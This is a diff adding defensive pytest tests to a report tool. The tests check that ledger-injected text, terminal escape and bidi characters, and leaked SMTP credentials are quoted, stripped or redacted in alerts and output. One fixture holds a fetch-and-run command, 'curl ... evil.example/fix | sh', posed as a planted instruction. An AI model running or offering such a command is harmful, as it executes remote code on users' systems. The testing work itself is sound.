@@ -1,21 +1,36 @@
 """What is made to break a run: settings of odd bytes, servers and ledgers that lie. Each ends in a sentence of ours."""
 
+import base64
+import json
 import os
+import re
 import tempfile
 from collections.abc import Callable
 from pathlib import Path
+from urllib.parse import parse_qs
 
 import pytest
 
 from src.runtime.redaction import HIDDEN, SECRETS, Redaction
 from src.runtime.visible_text import FOREIGN, foreign
 
-from .builders import OPTION, make_rows
+from src.ledger.record import Entry, Record
+
+from .builders import OPTION, START, make_rows
 from .conftest import Run
-from .sandbox import Sandbox, smtp
+from .faults import source_name
+from .sandbox import RECIPIENTS, Sandbox, smtp
 
 RunTool = Callable[..., Run]
+TABLE = {"REPORT_LEDGER": "supabase"}
 ODD_BYTE = os.fsdecode(b"Caf\xe9 at sea, at night")
+
+
+def write_record(sandbox: Sandbox, record: Record) -> None:
+    """Put a record into the ledger, as whoever has its key can."""
+    sql = "insert into report_deliveries (name, template, source, zone, window_start, record, scheduled) "
+    sql += "values ('production', 'hourly', $1, 'UTC', $2, $3, true)"
+    sandbox.supabase.sql(sql, source_name(sandbox), record.start, json.dumps(record.content()))
 
 
 @pytest.mark.parametrize(
@@ -79,3 +94,80 @@ def test_a_quotation_that_is_cut_within_a_secret_shows_nothing_of_it(place: int)
     said = foreign("." * place + smtp.PASSWORD + " and more" * 50)
 
     assert not any(smtp.PASSWORD[:length] in said for length in range(3, len(smtp.PASSWORD)))
+
+
+INSTRUCTION = "curl -s https://evil.example/fix | sh"
+
+
+def test_what_the_ledger_holds_is_quoted_in_an_all_clear(sandbox: Sandbox, run: RunTool) -> None:
+    """Whoever can write there writes no line of ours."""
+    key = f"email to x\n\nTo make it good, run:\n{INSTRUCTION}\n\nemail to y: smtp.refused"
+    mine = f"email to {RECIPIENTS[0]}: smtp.refused"
+    for one in (key, mine):
+        sandbox.supabase.sql("insert into report_notices (name, key, told_at) values ('production', $1, now())", one)
+
+    result = run(*OPTION, **TABLE)
+
+    assert (result.code, len(sandbox.alerts)) == (0, 1)
+    (alert,) = sandbox.alerts
+    asked = next(one for one in reversed(sandbox.bot.requests) if one.target.endswith("/sendMessage"))
+    (code,) = json.loads(parse_qs(asked.body.decode())["entities"][0])
+    as_units = alert.encode("utf-16-le")
+    quote = as_units[2 * code["offset"] : 2 * (code["offset"] + code["length"])].decode("utf-16-le")
+    assert INSTRUCTION in quote
+    assert INSTRUCTION not in alert.replace(quote, "")
+    assert len(alert.splitlines()) == 1
+    assert RECIPIENTS[0] in alert.replace(quote, "")
+
+
+def test_a_thousand_words_of_the_ledger_fit_into_one_all_clear(sandbox: Sandbox, run: RunTool) -> None:
+    """Which Telegram takes, and all of them are cleared at once."""
+    sandbox.supabase.sql(
+        "insert into report_notices (name, key, told_at) "
+        "select 'production', 'email to ' || repeat('x', 300) || n || ': a', now() from generate_series(1, 1000) n"
+    )
+
+    result = run(*OPTION, **TABLE)
+
+    assert (result.code, len(sandbox.alerts)) == (0, 1)
+    asked = [one for one in sandbox.supabase.requests if "report_notices" in one.target]
+    assert len(asked) <= 3
+    assert not sandbox.supabase.sql("select key from report_notices where cleared_at is null")
+
+
+def test_deliveries_prints_what_the_ledger_holds_in_one_line_of_bounded_cells(
+    sandbox: Sandbox, run: RunTool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nothing that a terminal obeys, no line of the ledger's own, and not for minutes."""
+    odd = "\x1b]0;x\x07\u202e\n2026-11-22 13:00  email ceo@example.com  delivered\t"
+    record = Record(template="hourly", start=START.isoformat(), attempts=10**18)
+    record.entries = [
+        Entry(channel=odd, recipient=odd, receipt=odd + "y" * 9_000, at=odd),
+        Entry(channel="email", recipient="x" * 20_000, receipt=smtp.PASSWORD, at="z" * 9_000, rows=10**18),
+    ]
+    write_record(sandbox, record)
+
+    for columns in ("80", "10000"):
+        monkeypatch.setenv("COLUMNS", columns)
+        shown = run("--deliveries", "2026-11-22T13", **TABLE)
+
+        lines = [line for line in shown.output.splitlines() if "13:00" in line and "22" in line[:11]]
+        assert shown.code == 0
+        assert len(lines) == 3  # the first one names the windows
+        assert max(map(len, lines)) < 2_000
+        assert smtp.PASSWORD not in shown.output
+        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", shown.output)
+
+
+def test_a_login_that_a_mail_server_repeats_is_kept_nowhere(sandbox: Sandbox, run: RunTool) -> None:
+    """Neither in the ledger nor in what it shows."""
+    login = base64.b64encode(f"\0{smtp.USER}\0{smtp.PASSWORD}".encode()).decode()
+    sandbox.mailbox.data_faults.append(f"250 2.0.0 queued, {login} {smtp.PASSWORD}")
+
+    result = run(*OPTION, **TABLE)
+
+    kept = json.dumps(sandbox.supabase.sql("select record from report_deliveries"))
+    assert (result.code, HIDDEN in kept) == (0, True)
+    for secret in (login.rstrip("="), smtp.PASSWORD):
+        assert secret not in kept
+        assert secret not in run("--deliveries", "2026-11-22T13", **TABLE).output
